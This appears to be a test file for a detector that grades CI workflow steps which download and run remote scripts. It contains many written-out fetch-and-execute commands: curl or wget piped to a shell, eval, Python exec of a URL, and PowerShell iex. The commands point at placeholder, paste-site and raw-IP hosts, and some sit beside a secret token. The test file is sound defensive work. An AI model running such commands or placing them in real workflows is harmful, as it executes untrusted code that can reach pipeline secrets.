import detector from "../../../../src/engine/detectors/workflows/workflow-download-and-execute.ts";
import type { WorkflowFacts } from "../../../../src/engine/model/facts/workflow.ts";
import { aJob, aStep, aWorkflow, aWorkflowCommit } from "../../../../src/engine/model/workflow-examples.ts";

const SHELL = ["ba", "sh"].join("");
const CURL = ["cu", "rl"].join("");
const HOST = "https://quiet.example.net";
const PASTE = "https://paste.rs";
const options = { knownHosts: [] };
const secret = (name: string) => ["$", "{{ secrets.", name, " }}"].join("");

const of = (parts: Partial<WorkflowFacts>, before: WorkflowFacts | null = null) =>
  detector.detect(aWorkflowCommit(aWorkflow(parts), before), options);
const strengths = (...runs: string[]) =>
  of({ steps: runs.map((run) => aStep({ run })) }).map(({ strength }) => strength);

test.each([
  ["a pipe", `${CURL} -fsSL ${HOST}/p.sh | ${SHELL}`],
  ["a pipe with rights and arguments", `${CURL} -fsSL ${HOST}/p.sh | sudo -E ${SHELL} -s -- -y`],
  ["a pipe into another language", `wget -qO- ${HOST}/p.py | python3 -`],
  ["a pipe over a filter", `${CURL} ${HOST}/p | tee p.log | tr a b | sh`],
  ["variables in front of the shell", `${CURL} ${HOST}/p | DIR=/usr/local sh`],
  ["a substituted file", `${SHELL} <(${CURL} -s ${HOST}/p.sh)`],
  ["a sourced file", `source <(${CURL} -s ${HOST}/p.sh)`],
  ["a substituted text", `sh -c "$(${CURL} -fsSL ${HOST}/p.sh)"`],
  ["evaluated text", `eval "$(${CURL} ${HOST}/p)"`],
  ["Python's own text", `python3 -c "$(${CURL} -s ${HOST}/p.py)"`],
  ["Python's own request", `python3 -c "import urllib.request as u; exec(u.urlopen('${HOST}/p').read())"`],
  ["PowerShell's pipe", `iwr -useb ${HOST}/p.ps1 | iex`],
  ["PowerShell's brackets", `iex (irm ${HOST}/p.ps1)`],
  ["PowerShell's client", `iex ((New-Object System.Net.WebClient).DownloadString('${HOST}/p.ps1'))`],
  ["a text that is said to the shell", `echo "$(${CURL} ${HOST}/p)" | sh`],
  ["a text that is handed on", `ssh box "${CURL} ${HOST}/p | sh"`],
  ["an address in a variable", `SITE=${HOST}/p\n${CURL} "$SITE" | sh`],
  ["continued lines", `${CURL} -fsSL \\\n  ${HOST}/p.sh \\\n  | ${SHELL}`],
])("is strong about what a stranger hands out: %s", (_, run) => {
  expect(strengths(run)).toEqual(["strong"]);
});

test.each([
  ["made a program", [`wget ${HOST}/p.sh\nchmod +x p.sh && ./p.sh`]],
  ["given to the shell", [`${CURL} -o /tmp/p ${HOST}/p\nsudo ${SHELL} /tmp/p`]],
  ["written by the shell", [`${CURL} ${HOST}/p > p\nsh p`]],
  ["in a later step", [`${CURL} -sLO ${HOST}/tool`, "chmod +x tool\n./tool --version"]],
  ["of PowerShell", [`Invoke-WebRequest ${HOST}/p.ps1 -OutFile p.ps1\npwsh ./p.ps1`]],
])("is medium about a file that is started: %s", (_, runs) => {
  expect(strengths(...runs)).toEqual(["medium"]);
});

test.each([
  ["of a tool that everybody uses", `${CURL} -fsSL https://sh.rustup.rs | sh -s -- -y`, ["weak"]],
  ["whose address is put together", `${CURL} "$URL" | sh`, ["medium"]],
  ["from a page for pastes", `${CURL} -s ${PASTE}/x | sh`, ["strong"]],
  ["from a raw address", `${CURL} -s http://45.9.148.${100 + 8}/x | sh`, ["strong"]],
])("grades a script %s", (_, run, expected) => {
  expect(strengths(run)).toEqual(expected);
});

test("is decisive about a page for pastes where there is something to take", () => {
  const step = aStep({ run: `${CURL} -s ${PASTE}/x | sh`, runLine: 12 });
  const expected = (reach: string) => [
    {
      strength: "decisive",
      confidence: 1,
      because: `a step runs what paste.rs hands out, ${reach}`,
      path: ".github/workflows/ci.yml",
      line: 12,
      facts: { host: "paste.rs", known: false, kind: "paste", by: "pipe" },
      matched: step.run,
    },
  ];
  expect(of({ steps: [step, aStep({ env: { T: secret("NPM_TOKEN") } })] })).toEqual(
    expected("beside the secret NPM_TOKEN"),
  );
  expect(of({ steps: [step], jobs: [aJob({ permissions: { "id-token": "write" } })] })).toEqual(
    expected("with the right to write id-token"),
  );
});

test.each([
  ["data for another program", `${CURL} -s ${HOST}/x.json | python3 -m json.tool`],
  ["data for a program of one line", `${CURL} -s ${HOST}/x | node -e "process.stdin.resume()"`],
  ["data for a script of the tree", `${CURL} -s ${HOST}/x | python3 scripts/read.py`],
  ["a text that tells people to do so", `echo "run: ${CURL} ${HOST}/p | sh"`],
  ["a text that is stored", `NOTES="Install: ${CURL} ${HOST}/p | sh"`],
  ["a text of several lines", `cat > notes.md <<END\n${CURL} ${HOST}/p | sh\nEND`],
  ["a comment on an issue", `gh pr comment --body '${CURL} ${HOST}/p | sh'`],
  ["a download that stays one", `${CURL} -o data.bin ${HOST}/data.bin\n./build.sh`],
  ["an archive", `${CURL} -L ${HOST}/x.tgz | tar xz`],
  ["a request that waits for a server", `${CURL} -f ${HOST}/health && ${SHELL} ./smoke.sh`],
  ["a checked download", `${CURL} -LO ${HOST}/tool\nsha256sum --check tool.sha256\n./tool`],
  ["a signed download", `${CURL} -LO ${HOST}/tool\ngpg --batch --verify tool.sig tool\n./tool`],
])("passes %s", (_, run) => {
  expect(strengths(run)).toEqual([]);
});

test("passes what only moved, and takes a host for known that steps ran from before", () => {
  const line = `${CURL} -fsSL ${HOST}/p.sh | ${SHELL}`;
  const before = aWorkflow({ steps: [aStep({ run: line })] });
  expect(of({ steps: [aStep({ name: "again", run: `set -e\n${line}` })] }, before)).toEqual([]);
  expect(of({ steps: [aStep({ run: `${line} -s -- -v` })] }, before).map(({ strength }) => strength)).toEqual(["weak"]);
  expect(of({}, before)).toEqual([]);
});

test("passes hosts that the policy knows", () => {
  const commit = aWorkflowCommit(aWorkflow({ steps: [aStep({ run: `${CURL} ${HOST}/p | sh` })] }));
  expect(detector.detect(commit, { knownHosts: ["quiet.example.net"] }).map(({ strength }) => strength)).toEqual([
    "weak",
  ]);
});

test("says one thing of one host", () => {
  expect(strengths(`${CURL} ${HOST}/a | sh\n${CURL} ${HOST}/b | sh`)).toEqual(["strong"]);
});
